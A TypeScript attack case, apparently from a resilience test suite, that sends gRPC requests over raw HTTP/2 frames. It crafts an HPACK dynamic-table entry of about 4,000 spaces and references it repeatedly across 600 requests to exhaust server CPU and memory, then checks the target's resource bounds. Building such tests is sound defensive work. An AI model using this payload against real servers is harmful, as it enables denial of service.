import { endHeaders, endStream, frame, grpcHeader, types } from "../../hostile/raw-http2.ts";
import type { Attack } from "../attack.ts";
import { connectHttp2, streamOf } from "../wire/http2.ts";

const requests = 600;
const repetitions = 7;
/** Almost as much as the dynamic table may hold. */
const spaces = 4_000;

export const attack: Attack = {
  protocol: "HTTP/2",
  description: "gRPC requests that repeat a field of 4,000 spaces from the dynamic table",
  // Each request has a thousand bytes of spaces removed for every byte of it.
  bounds: { cpuMsPerMB: 8_000, heldPerByte: 50 },
  async run(target) {
    const header = grpcHeader("/micro.attack.v1.TargetService/Say");
    const value = Buffer.from(` a${" ".repeat(spaces)}b`);
    const length = Buffer.of(0x7f, 0, 0);
    length.writeUIntLE(((value.length - 127) & 0x7f) | 0x80, 1, 1);
    length.writeUIntLE((value.length - 127) >> 7, 2, 1);
    const indexed = Buffer.concat([Buffer.of(0x40, 1), Buffer.from("x"), length, value]);
    // The newest field of the dynamic table.
    const again = Buffer.alloc(repetitions, 0x80 | 62);
    const connection = await connectHttp2(target);
    await connection.write(
      frame(types.headers, endHeaders | endStream, 1, Buffer.concat([header, indexed])),
    );
    for (let index = 1; index <= requests; index++) {
      // Another block each time, so that it is not recognized as a repetition.
      const own = grpcHeader("/micro.attack.v1.TargetService/Say", { y: String(index) });
      const block = Buffer.concat([own, again]);
      await connection.write(frame(types.headers, endHeaders | endStream, streamOf(index), block));
    }
    await target.usage();
    await target.ordinaryCall();
  },
};
